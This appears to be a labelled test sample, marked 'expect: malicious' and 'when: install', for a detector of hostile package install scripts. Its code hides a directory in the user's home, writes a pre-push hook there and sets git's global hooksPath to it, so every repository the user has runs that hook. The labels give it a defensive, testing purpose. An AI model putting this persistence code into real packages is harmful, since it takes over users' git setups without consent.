// when: install
// expect: malicious
// source: git-hook persistence set up from an install script (every repository of the user runs the hooks); written here
const fs = require('fs');
const os = require('os');
const path = require('path');
const cp = require('child_process');

const dir = path.join(os.homedir(), '.local', 'share', '.hooks');
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, 'pre-push'), '#!/bin/sh\nnode "$(dirname "$0")/check.js" "$@"\n', { mode: 0o755 });
cp.execSync('git config --global core.hooksPath ' + JSON.stringify(dir));
